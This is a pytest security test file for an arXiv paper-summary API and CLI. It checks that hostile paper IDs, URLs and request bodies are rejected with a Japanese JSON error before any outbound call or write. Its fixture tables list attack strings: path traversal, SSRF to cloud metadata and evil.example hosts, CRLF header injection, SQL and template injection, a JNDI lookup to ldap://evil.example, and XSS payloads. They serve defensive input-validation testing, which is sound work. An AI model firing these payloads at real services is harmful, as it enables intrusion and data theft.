"""Hostile paper IDs, URLs and bodies: every one is refused with a 4xx JSON error carrying a
Japanese message, before anything leaves the process (no arXiv or OpenAI request), and before
anything is written (no job, no queue message). The same table goes through `ronbun summarize`
(exit 2, no traceback, no request). The whole table runs through the API handler in-process
(real REST proxy events); a sample, plus body size and content-type abuse, over real HTTP.
"""

from __future__ import annotations

import http.client
import json
from dataclasses import dataclass
from urllib.parse import quote

import pytest
from moto import mock_aws

from infra.tables import create_resources
from ronbun import clients
from ronbun.settings import get_settings
from tests.fakes.fake_arxiv import FakeArxiv
from tests.fakes.fake_openai import TEST_KEY, FakeOpenAI
from tests.integration.test_local_stack import stack_env
from tests.localstack import LocalStack
from tests.unit.moto_stack import TABLE, Aws, Context, get_event, post_event

HOSTILE_IDS: list[str] = [
    # path traversal
    "../etc/passwd", "../../../../etc/passwd", "..%2F..%2Fetc%2Fpasswd", "..%252F..%252Fetc%252Fpasswd",
    "2401.15884/../../admin", "hep-th/../../9901001", "/etc/passwd", "..\\..\\windows\\win.ini",
    "2401.15884/", "hep-th//9901001", "hep-th/9901001/extra",
    # other hosts and schemes
    "https://evil.example/abs/2401.15884", "https://arxiv.org.evil.example/abs/2401.15884",
    "https://arxiv.org@evil.example/abs/2401.15884", "https://user:pass@arxiv.org/abs/2401.15884",
    "http://127.0.0.1:9/abs/2401.15884", "http://169.254.169.254/latest/meta-data/",
    "https://arxiv.org:8443/abs/2401.15884", "//evil.example/abs/2401.15884", "file:///etc/passwd",
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "ftp://arxiv.org/pdf/2401.15884",
    "https://arxiv.org/abs/2401.15884%2F..%2F..%2Fadmin", "https://arxiv.org/abs\\2401.15884",
    "https://arxiv.org/list/cs.CL/recent", "arxiv.org/abs/../../etc/passwd",
    # encoded separators
    "hep-th%2F9901001", "2401%2E15884", "2401.15884%00", "%32%34%30%31.15884",
    # Unicode look-alikes and invisible characters
    "2401\u302415884", "2401.1588\u0664", "hep\u2010th/9901001", "2401.15884\u200b",
    "\u202e48851.1042", "https://arx\u0456v.org/abs/2401.15884", "\u0662\u0664\u0660\u0661.\u0661\u0665\u0668\u0668\u0664",
    # length
    "2401.15884" + "0" * 10_000, "v" * 5_000, "2401.15884v" + "9" * 300, "a" * 201, "2401.15884v99999",
    # header, JSON and query injection
    "2401.15884\r\nX-Injected: 1", "2401.15884\nSet-Cookie: session=stolen", "2401.15884%0d%0aLocation:%20https://evil.example",
    '2401.15884", "lang": "en', '{"paper_id": "2401.15884"}', "2401.15884&id_list=1234.12345",
    "2401.15884,2401.15885", "2401.15884?max_results=1000", "2401.15884#fragment",
    # NUL and control characters
    "2401.15884\x00", "\x00", "2401.15884\x00.pdf", "2401.1\x085884", "\x1b[31m2401.15884",
    # SQL-ish, NoSQL-ish and key-ish
    "2401.15884' OR '1'='1", "1; DROP TABLE ronbun;--", "2401.15884 UNION SELECT *", '{"$ne": null}',
    "PAPER#2401.15884", "2401.15884#SUMMARY#v1", "BUDGET#2026-01-01",
    # template and script injection
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>',
    # almost right
    "", " ", "\t", "2401 15884", "2401.1588", "2413.15884", "0001.00001", "2401.15884v0", "2401.15884v",
    "hep-th/99010011", "nonsense/9901001", "hep-th/0704001", "HEP-TH/9901001", "arXiv:", "arxiv:arxiv:2401.15884",
    "1e5", "-1", "NaN", "null", "true", "2401.15884.pdf",
]

NOT_STRINGS = [None, 2401.15884, 240115884, True, ["2401.15884"], {"id": "2401.15884"}, [], {}, 1e308, -0.0]

BAD_BODIES: list[tuple[str, str | bytes, str | None]] = [
    ("truncated json", '{"paper_id": "2401.15884"', "application/json"),
    ("trailing garbage", '{"paper_id": "2401.15884"} {"paper_id": "x"}', "application/json"),
    ("single quotes", "{'paper_id': '2401.15884'}", "application/json"),
    ("duplicate key, hostile last", '{"paper_id": "2401.15884", "paper_id": "../../etc/passwd"}', "application/json"),
    ("NaN", '{"paper_id": NaN}', "application/json"),
    ("huge integer", '{"paper_id": ' + "9" * 5000 + "}", "application/json"),
    ("deep nesting", '{"paper_id": ' + "[" * 5000 + "]" * 5000 + "}", "application/json"),
    ("top-level array", '["2401.15884"]', "application/json"),
    ("top-level string", '"2401.15884"', "application/json"),
    ("top-level null", "null", "application/json"),
    ("unknown field", '{"paper_id": "2401.15884", "__proto__": {"admin": true}}', "application/json"),
    ("lang not ja", '{"paper_id": "2401.15884", "lang": "en"}', "application/json"),
    ("lang injection", '{"paper_id": "2401.15884", "lang": "ja\\u0000"}', "application/json"),
    ("lang null", '{"paper_id": "2401.15884", "lang": null}', "application/json"),
    ("lang array", '{"paper_id": "2401.15884", "lang": ["ja"]}', "application/json"),
    ("invalid utf-8", b'{"paper_id": "2401.15884\xff\xfe"}', "application/json"),
    ("over 16 KB", '{"paper_id": "2401.15884", "pad": "' + "x" * 17_000 + '"}', "application/json"),
    ("empty", "", "application/json"),
    ("text/plain", '{"paper_id": "2401.15884"}', "text/plain"),
    ("form", "paper_id=2401.15884", "application/x-www-form-urlencoded"),
    ("multipart", '--x\r\nContent-Disposition: form-data; name="paper_id"\r\n\r\n2401.15884\r\n--x--', "multipart/form-data; boundary=x"),
    ("xml", "<paper_id>2401.15884</paper_id>", "application/xml"),
    ("json lookalike type", '{"paper_id": "2401.15884"}', "application/jsonp"),
    ("no content type", '{"paper_id": "2401.15884"}', None),
]

HOSTILE_LANGS = ["en", "{{7*7}}", "ja\x00", "ja\r\nX-Injected: 1", "../ja", "j" * 1000]


@dataclass
class World:
    arxiv: FakeArxiv
    openai: FakeOpenAI
    aws: Aws


@pytest.fixture(scope="module")
def world():
    """Fake arXiv and OpenAI servers that must never be asked anything, and in-process moto."""
    arxiv, openai = FakeArxiv().start(), FakeOpenAI().start()
    arxiv.add_paper("2401.15884", title="A Real Paper")
    with pytest.MonkeyPatch.context() as mp, mock_aws():
        mp.delenv("AWS_ENDPOINT_URL", raising=False)
        for name, value in dict(AWS_DEFAULT_REGION="us-east-1", AWS_ACCESS_KEY_ID="testing",
                                AWS_SECRET_ACCESS_KEY="testing").items():
            mp.setenv(name, value)
        clients.reset()
        res = create_resources(clients.dynamodb(), clients.sqs(), table=TABLE)
        yield World(arxiv, openai, Aws(res.queue_url, res.dlq_url))
    clients.reset()
    arxiv.stop()
    openai.stop()


@pytest.fixture
def untouched(world, monkeypatch):
    """Points the handler at the world, and after the test checks nothing left the process and
    nothing was written."""
    monkeypatch.delenv("AWS_ENDPOINT_URL", raising=False)
    for name, value in dict(RONBUN_ARXIV_API_URL=world.arxiv.api_url, RONBUN_ARXIV_BASE_URL=world.arxiv.url,
                            OPENAI_BASE_URL=world.openai.url, OPENAI_API_KEY=TEST_KEY, RONBUN_TABLE=TABLE,
                            RONBUN_QUEUE_URL=world.aws.queue_url).items():
        monkeypatch.setenv(name, value)
    get_settings.cache_clear()
    arxiv_before, openai_before = len(world.arxiv.requests), len(world.openai.calls)
    yield world
    assert world.arxiv.requests[arxiv_before:] == [], "a request reached arXiv"
    assert world.openai.calls[openai_before:] == [], "a request reached OpenAI"
    assert world.aws.items() == [] and world.aws.messages() == [], "something was written"


def call(event: dict) -> tuple[int, dict, dict]:
    from functions.api import app as api

    response = api.handler(event, Context())
    headers = {k.lower(): ", ".join(v) for k, v in (response.get("multiValueHeaders") or {}).items()}
    headers |= {k.lower(): v for k, v in (response.get("headers") or {}).items()}
    return response["statusCode"], json.loads(response["body"]), headers


def assert_refused(status: int, body: dict, allowed: tuple[int, ...] = (400,)) -> None:
    assert status in allowed, (status, body)
    error = body["error"]
    assert error["code"] in ("invalid_paper_id", "invalid_request", "route_not_found", "not_found"), error
    assert error["message"] and any("\u3040" <= c <= "\u30ff" or "\u4e00" <= c <= "\u9fff" for c in error["message_ja"])


def _id(value) -> str:
    return repr(value)[:40]


# ---------------------------------------------------------------------------- in-process: the table

def test_the_table_is_big_enough_and_has_no_valid_id():
    from ronbun.errors import InvalidPaperId
    from ronbun.ids import parse_id, parse_ref

    assert len(HOSTILE_IDS) >= 50
    for value in HOSTILE_IDS:
        for parse in (parse_id, parse_ref):
            with pytest.raises(InvalidPaperId):
                parse(value)


@pytest.mark.parametrize("paper_id", HOSTILE_IDS, ids=_id)
def test_post_of_a_hostile_id_is_400_json_before_any_io(untouched, paper_id):
    status, body, headers = call(post_event({"paper_id": paper_id}))
    assert_refused(status, body)
    assert headers.get("content-type", "").startswith("application/json")
    assert "x-injected" not in headers and "set-cookie" not in headers and "location" not in headers


@pytest.mark.parametrize("paper_id", HOSTILE_IDS, ids=_id)
def test_get_of_a_hostile_id_is_400_or_404_json_before_any_io(untouched, paper_id):
    status, body, headers = call(get_event(paper_id))
    assert_refused(status, body, allowed=(400, 404))
    assert "x-injected" not in headers and "set-cookie" not in headers


@pytest.mark.parametrize("value", NOT_STRINGS, ids=_id)
def test_a_paper_id_that_is_not_a_string_is_400(untouched, value):
    status, body, _ = call(post_event(json.dumps({"paper_id": value})))
    assert_refused(status, body)
    assert body["error"]["code"] == "invalid_request"


@pytest.mark.parametrize("name, body, content_type", BAD_BODIES, ids=[b[0] for b in BAD_BODIES])
def test_a_malformed_body_is_400_json(untouched, name, body, content_type):
    import base64

    raw = body.encode() if isinstance(body, str) else body
    try:
        text, encoded = raw.decode("utf-8"), False
    except UnicodeDecodeError:                       # as API Gateway passes a binary body
        text, encoded = base64.b64encode(raw).decode(), True
    status, out, _ = call(post_event(text, isBase64Encoded=encoded, headers={"Content-Type": content_type}))
    assert_refused(status, out, allowed=(400, 413, 415))


@pytest.mark.parametrize("lang", HOSTILE_LANGS, ids=_id)
def test_a_hostile_lang_in_the_query_string_is_400(untouched, lang):
    event = get_event("2401.15884", queryStringParameters={"lang": lang},
                      multiValueQueryStringParameters={"lang": [lang]})
    status, body, _ = call(event)
    assert_refused(status, body)


@pytest.mark.parametrize("paper_id", HOSTILE_IDS[::7], ids=_id)
def test_a_digest_naming_a_hostile_id_is_400_before_any_io(untouched, paper_id):
    from tests.events import load_event

    body = json.dumps({"paper_ids": ["2401.15884", paper_id], "title": "今週の論文"})
    status, out, _ = call(load_event("api_post_digest", body=body))
    assert_refused(status, out)


# ---------------------------------------------------------------------------- the CLI

@pytest.mark.parametrize("paper_id", HOSTILE_IDS, ids=_id)
def test_ronbun_summarize_refuses_a_hostile_id_with_exit_2_and_no_request(paper_id, untouched, capsys):
    from ronbun.cli import main

    try:
        code = main(["summarize", paper_id])
    except SystemExit as exit_:                     # argparse: an id that looks like an option
        code = exit_.code
    out, err = capsys.readouterr()
    assert code == 2, err
    assert out == "" and "Traceback" not in err
    assert "エラー" in err or "usage:" in err


# ---------------------------------------------------------------------------- over real HTTP

@pytest.fixture(scope="module")
def stack():
    arxiv, openai = FakeArxiv().start(), FakeOpenAI().start()
    arxiv.add_paper("2401.15884", title="A Real Paper")
    s = LocalStack(stack_env(arxiv, OPENAI_API_KEY=TEST_KEY, OPENAI_BASE_URL=openai.url))
    s.fake_arxiv, s.fake_openai = arxiv, openai
    yield s
    s.stop()
    arxiv.stop()
    openai.stop()


def over_http(stack: LocalStack, method: str, path: str, body: bytes | None = None,
         headers: dict[str, str] | None = None) -> tuple[int, dict, http.client.HTTPResponse]:
    host, port = stack.url.removeprefix("http://").split(":")
    conn = http.client.HTTPConnection(host, int(port), timeout=30)
    try:
        conn.request(method, path, body=body, headers=headers or {})
        resp = conn.getresponse()
        raw = resp.read()
    finally:
        conn.close()
    assert resp.getheader("Content-Type", "").startswith("application/json"), (resp.status, raw[:200])
    return resp.status, json.loads(raw), resp


@pytest.fixture
def quiet(stack):
    """After the test: no request reached arXiv or OpenAI, and no job exists."""
    before = len(stack.fake_arxiv.requests), len(stack.fake_openai.calls)
    yield stack
    assert len(stack.fake_arxiv.requests) == before[0] and len(stack.fake_openai.calls) == before[1]
    assert stack.job_items() == []


SAMPLE = HOSTILE_IDS[::5]


@pytest.mark.parametrize("paper_id", SAMPLE, ids=_id)
def test_over_http_a_hostile_id_is_refused_by_post_and_get(quiet, paper_id):
    body = json.dumps({"paper_id": paper_id}).encode()
    status, out, resp = over_http(quiet, "POST", "/v1/summaries", body, {"Content-Type": "application/json"})
    assert_refused(status, out)
    assert resp.getheader("X-Injected") is None and resp.getheader("Set-Cookie") is None
    status, out, resp = over_http(quiet, "GET", "/v1/summaries/" + quote(paper_id, safe=""))
    assert_refused(status, out, allowed=(400, 404))
    assert resp.getheader("X-Injected") is None


@pytest.mark.parametrize("size, statuses", [(20_000, (400,)), (2_000_000, (413,))])
def test_over_http_an_oversized_body_is_refused_with_json(quiet, size, statuses):
    body = b'{"paper_id": "2401.15884", "pad": "' + b"x" * size + b'"}'
    status, out, _ = over_http(quiet, "POST", "/v1/summaries", body, {"Content-Type": "application/json"})
    assert status in statuses, out
    assert out.get("error", {}).get("message_ja") or out.get("message")


@pytest.mark.parametrize("name, body, content_type", [b for b in BAD_BODIES if b[0] in (
    "text/plain", "form", "multipart", "xml", "no content type", "invalid utf-8", "deep nesting", "huge integer",
    "duplicate key, hostile last", "truncated json")], ids=lambda v: v if isinstance(v, str) else "")
def test_over_http_a_malformed_body_or_content_type_is_refused(quiet, name, body, content_type):
    raw = body.encode() if isinstance(body, str) else body
    status, out, _ = over_http(quiet, "POST", "/v1/summaries", raw, {"Content-Type": content_type} if content_type else {})
    assert_refused(status, out, allowed=(400, 413, 415))
